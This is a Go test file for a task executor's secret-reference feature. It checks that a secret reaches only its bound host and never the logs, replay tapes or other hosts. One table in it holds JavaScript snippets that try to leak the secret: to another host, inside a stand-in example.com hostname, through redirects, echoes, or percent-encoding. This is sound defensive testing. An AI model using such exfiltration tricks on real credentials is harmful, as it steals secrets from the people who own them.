package executor_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"ratchet"
	"ratchet/executor"
	"ratchet/runtime/broker"
	"ratchet/secrets"
	"ratchet/storage"
)

const token = `t0ken-with-"quotes"-&-more`

// upstream remembers what it received, word for word, and gives it back.
type upstream struct {
	*httptest.Server

	mu  sync.Mutex
	got []string
}

func newUpstream(t *testing.T) *upstream {
	u := &upstream{}
	u.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		header, _ := json.Marshal(r.Header)
		u.mu.Lock()
		u.got = append(u.got, fmt.Sprintf("%s %s%s\n%s\n%s", r.Method, r.Host, r.RequestURI, header, body))
		u.mu.Unlock()
		if to := r.Header.Get("X-Redirect"); to != "" && !strings.HasPrefix(r.URL.Path, "/landed") {
			http.Redirect(w, r, to+"/landed?"+r.URL.RawQuery, http.StatusTemporaryRedirect)
			return
		}
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "%s %s %s %s", r.URL.RawQuery, r.Header.Get("Authorization"), header, body)
	}))
	t.Cleanup(u.Close)
	return u
}

func (u *upstream) received() string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return strings.Join(u.got, "\n---\n")
}

// keyed is a rig with the secret KEY, which is bound to the host of one
// upstream and cannot be read.
func keyed(t *testing.T, bound *upstream) (rig, *secrets.Vault) {
	t.Helper()
	b := broker.New(broker.Config{AllowPrivate: []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")}, AllowPorts: []uint16{0}})
	t.Cleanup(b.Close)
	var v *secrets.Vault
	r := newRig(t, func(c *executor.Config) {
		c.Broker, v = b, c.Secrets.(*secrets.Vault)
	})
	value := token
	change(t, v, ratchet.SecretUpdate{Name: "KEY", Value: &value, TaskPatterns: []string{"t"}, Hosts: []string{strings.TrimPrefix(bound.URL, "http://")}})
	return r, v
}

func change(t *testing.T, v *secrets.Vault, u ratchet.SecretUpdate) {
	t.Helper()
	if _, err := v.Set(context.Background(), u); err != nil {
		t.Fatal(err)
	}
}

func declares(names ...string) func(*ratchet.Task) {
	return func(t *ratchet.Task) {
		t.Metadata, _ = json.Marshal(map[string]any{"secrets": names})
	}
}

// everything is all that a run left behind, as text.
func (r rig) everything(t *testing.T, x *ratchet.Execution) string {
	t.Helper()
	ctx := context.Background()
	row, err := r.store.Execution(ctx, x.ID)
	if err != nil {
		t.Fatal(err)
	}
	logs, err := r.store.Logs(ctx, x.ID, storage.LogQuery{})
	if err != nil {
		t.Fatal(err)
	}
	all, err := json.Marshal([]any{x, row, logs})
	if err != nil {
		t.Fatal(err)
	}
	tape, _ := r.store.Tape(ctx, x.ID)
	return string(all) + string(tape)
}

// TestSecretRef: the receiver gets the value in every place, spelt as the place
// has it; the script and the records never do; and a replay needs no value.
func TestSecretRef(t *testing.T) {
	bound := newUpstream(t)
	r, v := keyed(t, bound)
	r.task(t, `export default async (input, context) => {
		const ref = context.secrets.ref("KEY")
		console.log("have", ref, btoa(ref))
		const answers = [
			await fetch(input.url + "/a?q=" + ref + "&r=" + encodeURIComponent(ref), {headers: {authorization: "Bearer " + ref}}),
			await fetch(input.url + "/" + ref, {headers: {authorization: "Basic " + btoa("user:" + ref)}}),
			await fetch(input.url + "/json", {method: "POST", body: {token: ref}}),
			await fetch(input.url + "/form", {method: "POST", body: new URLSearchParams({token: ref})}),
			await fetch(input.url + "/text", {method: "PUT", headers: {"content-type": "text/plain"}, body: "<" + ref + ">"}),
		]
		return {texts: await Promise.all(answers.map(a => a.text())), headers: answers.map(a => a.headers.get("x-echo")), length: ref.length}
	}`, declares("KEY"))
	x := r.run(t, fmt.Sprintf(`{"url":%q}`, bound.URL))
	if x.Status != ratchet.StatusCompleted {
		t.Fatalf("%+v", x.Error)
	}
	got := bound.received()
	for _, want := range []string{
		"/a?q=t0ken-with-%22quotes%22-%26-more&r=t0ken-with-%22quotes%22-%26-more", `"Bearer t0ken-with-\"quotes\"-\u0026-more"`,
		"/t0ken-with-%22quotes%22-&-more", "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+token)),
		`{"token":"t0ken-with-\"quotes\"-&-more"}`, "token=t0ken-with-%22quotes%22-%26-more", "<" + token + ">",
	} {
		if !strings.Contains(got, want) {
			t.Errorf("the upstream did not get %s:\n%s", want, got)
		}
	}
	if strings.Contains(got, "ratchet-secret-") {
		t.Errorf("a reference went out:\n%s", got)
	}
	all := r.everything(t, x)
	if strings.Contains(all, "t0ken") || strings.Contains(all, "ratchet-secret-") || !strings.Contains(all, executor.Redacted) {
		t.Errorf("the records hold the value or its reference: %s", all)
	}
	if err := v.Delete(context.Background(), "KEY"); err != nil {
		t.Fatal(err)
	}
	replay, err := r.Replay(context.Background(), executor.ReplayRequest{Execution: x.ID})
	if err != nil || replay.Followed.Divergence != nil {
		t.Errorf("a replay without the value: %+v, %v", replay, err)
	}
}

// TestSecretRefReplays: with the secret still bound a replay is the run.
func TestSecretRefReplays(t *testing.T) {
	bound := newUpstream(t)
	r, _ := keyed(t, bound)
	r.task(t, `export default async (input, context) => {
		const ref = context.secrets.ref("KEY")
		console.log(ref)
		const a = await fetch(input.url + "/?q=" + ref, {method: "POST", headers: {authorization: "Basic " + btoa("u:" + ref)}, body: {ref}})
		return {ref, length: ref.length, text: await a.text()}
	}`, declares("KEY"))
	x := r.run(t, fmt.Sprintf(`{"url":%q}`, bound.URL))
	replay, err := r.Replay(context.Background(), executor.ReplayRequest{Execution: x.ID})
	if err != nil || !replay.Identical {
		t.Fatalf("%+v %v (%+v)", replay, err, x.Error)
	}
	_, tape, err := r.Recording(context.Background(), x.ID)
	if err != nil || tape.Calls[0].Call.Secret != "KEY" || tape.Calls[0].Reply.Version != 1 {
		t.Errorf("the tape names the secret and its version: %+v, %v", tape.Calls, err)
	}
	before := len(bound.got)
	h, err := r.Fork(context.Background(), executor.ForkRequest{Execution: x.ID, AtStep: 3})
	if err != nil {
		t.Fatal(err)
	}
	fork, err := h.Wait(context.Background(), time.Minute)
	if err != nil || fork.Status != ratchet.StatusCompleted {
		t.Fatalf("fork: %+v, %v", fork, err)
	}
	if got := strings.Join(bound.got[before:], "\n"); !strings.Contains(got, "t0ken") || strings.Contains(got, "ratchet-secret-") {
		t.Errorf("a fork that goes on live sent %q", got)
	}
}

// TestSecretRefHostile: ways in which a task may want the value to be where it
// should not.
func TestSecretRefHostile(t *testing.T) {
	for name, code := range map[string]string{
		"another host":       `await fetch(i.other + "/?q=" + ref)`,
		"header elsewhere":   `await fetch(i.other, {headers: {a: ref}})`,
		"body elsewhere":     `await fetch(i.other, {method: "POST", body: {ref}})`,
		"basic elsewhere":    `await fetch(i.other, {headers: {authorization: "Basic " + btoa("u:" + ref)}})`,
		"host of a URL":      `await fetch("http://" + ref + ".example.com/")`,
		"user of a URL":      `await fetch(i.url.replace("//", "//" + ref + "@"))`,
		"name of a header":   `await fetch(i.url, {headers: {[ref]: "a"}})`,
		"header Host":        `await fetch(i.url, {headers: {host: ref}})`,
		"idempotency key":    `await fetch(i.url, {method: "POST", idempotencyKey: ref})`,
		"too often":          `await fetch(i.url, {method: "POST", body: Array(200).fill(ref)})`,
		"read it":            `out = context.secrets.get("KEY"); throw new Error("refused")`,
		"undeclared":         `context.secrets.ref("TOKEN")`,
		"redirect":           `out = await (await fetch(i.url + "/?q=" + ref, {method: "POST", headers: {"x-redirect": i.other, authorization: "Bearer " + ref, "x-mine": ref}, body: {ref}})).text(); throw new Error("refused")`,
		"redirect elsewhere": `out = await (await fetch(i.url + "/?q=" + ref, {headers: {"x-redirect": i.other, authorization: "Basic " + btoa("u:" + ref)}})).text(); throw new Error("refused")`,
		"echo":               `out = await (await fetch(i.url, {headers: {authorization: ref, "accept-encoding": "gzip"}})).text(); throw new Error("refused " + out)`,
		"echo to elsewhere":  `out = await (await fetch(i.url, {headers: {authorization: ref}})).text(); await fetch(i.other, {method: "POST", body: out}); throw new Error("refused")`,
		"encoded":            `await fetch(i.other + "/?" + [...ref].map(c => "%" + c.charCodeAt(0).toString(16)).join("")); throw new Error("refused")`,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			bound, other := newUpstream(t), newUpstream(t)
			r, _ := keyed(t, bound)
			r.task(t, `export default async (i, context) => { let out; const ref = context.secrets.ref("KEY"); `+code+`; return out }`, declares("KEY"))
			x := r.run(t, fmt.Sprintf(`{"url":%q,"other":%q}`, bound.URL, other.URL))
			if x.Status != ratchet.StatusFailed {
				t.Errorf("%s: %s", x.Status, x.Output)
			}
			for _, text := range []string{other.received(), r.everything(t, x)} {
				if strings.Contains(text, "t0ken") || strings.Contains(text, base64.StdEncoding.EncodeToString([]byte("u:"+token))) || strings.Contains(text, "ratchet-secret-") {
					t.Errorf("the value or its reference is in %s", text)
				}
			}
			if e := x.Error; e == nil || e.Message == "" || strings.HasPrefix(name, "another") && !strings.Contains(e.Message, "ratchet secrets set KEY") {
				t.Errorf("the error teaches nothing: %+v", e)
			}
		})
	}
}

// TestForeignReference: a text that looks like a reference, from the input, from
// a response or of another run, stays a text.
func TestForeignReference(t *testing.T) {
	bound := newUpstream(t)
	r, _ := keyed(t, bound)
	r.task(t, `export default async (i, context) => {
		if (i.seen) { context.secrets.ref("KEY"); await fetch(i.url, {headers: {authorization: i.seen}}); return null }
		return [...context.secrets.ref("KEY")].join(" ") // spaced out, so that it is not masked
	}`, declares("KEY"))
	var spaced string
	if err := json.Unmarshal(r.run(t, `{}`).Output, &spaced); err != nil {
		t.Fatal(err)
	}
	old := strings.ReplaceAll(spaced, " ", "")
	if !strings.HasPrefix(old, "ratchet-secret-") {
		t.Fatalf("no reference: %q", old)
	}
	input, _ := json.Marshal(map[string]string{"url": bound.URL, "seen": old})
	if x := r.run(t, string(input)); x.Status != ratchet.StatusCompleted {
		t.Fatalf("%+v", x.Error)
	}
	if got := bound.received(); strings.Contains(got, "t0ken") || !strings.Contains(got, old) {
		t.Errorf("the upstream got %s", got)
	}
}

// TestGuessingIsNotTold: what a script gets back and what is stored say nothing
// about the beginnings of a value that it cannot read.
func TestGuessingIsNotTold(t *testing.T) {
	bound, other := newUpstream(t), newUpstream(t)
	r, _ := keyed(t, bound)
	r.task(t, `export default async (i, context) => {
		context.secrets.ref("KEY")
		return [await (await fetch(i.other, {method: "POST", body: i.guess})).text(), i.guess]
	}`, declares("KEY"))
	for n := 8; n < len(token); n++ {
		guess := token[:n]
		input, _ := json.Marshal(map[string]string{"other": other.URL, "guess": guess})
		x := r.run(t, string(input))
		var out []string
		if err := json.Unmarshal(x.Output, &out); err != nil || out[1] != guess || !strings.HasSuffix(out[0], guess) {
			t.Fatalf("the guess %q came back as %q", guess, x.Output)
		}
		n += 5
	}
}

// TestGrantTakenBack: a run does not begin, and one that goes on is refused at
// its next use.
func TestGrantTakenBack(t *testing.T) {
	bound := newUpstream(t)
	r, v := keyed(t, bound)
	r.task(t, `export default async (i, context) => {
		const ref = context.secrets.ref("KEY")
		console.log("ready")
		await new Promise(ok => context.signal.addEventListener("abort", ok))
		const told = []
		for (const use of [() => context.secrets.ref("KEY"), () => fetch(i.url, {headers: {authorization: ref}})]) {
			try { await use(); told.push("done") } catch (e) { told.push(e.name + ": " + e.message) }
		}
		throw new Error(told.join("; "))
	}`, declares("KEY"))
	ctx := context.Background()
	sub := r.bus.Subscribe(0, func(e *ratchet.Event) bool { return e.Kind == "execution.log" })
	defer sub.Close()
	h, err := r.Start(ctx, executor.Request{Task: "t", Input: json.RawMessage(fmt.Sprintf(`{"url":%q}`, bound.URL))})
	if err != nil {
		t.Fatal(err)
	}
	<-sub.Ready()
	change(t, v, ratchet.SecretUpdate{Name: "KEY", TaskPatterns: []string{"elsewhere"}})
	r.Stop(h.ID, "go on")
	x, err := h.Wait(ctx, time.Minute)
	if err != nil || bound.received() != "" {
		t.Fatalf("%v; the upstream got %q", err, bound.received())
	}
	if logs := r.everything(t, x); strings.Contains(logs, "done") {
		t.Errorf("a use went through: %s", logs)
	}
	_, err = r.Start(ctx, executor.Request{Task: "t"})
	if e := ratchet.AsError(err); e.Code != ratchet.CodeDenied || e.Hint == "" || !strings.Contains(e.Message, "KEY") {
		t.Errorf("%+v", e)
	}
}
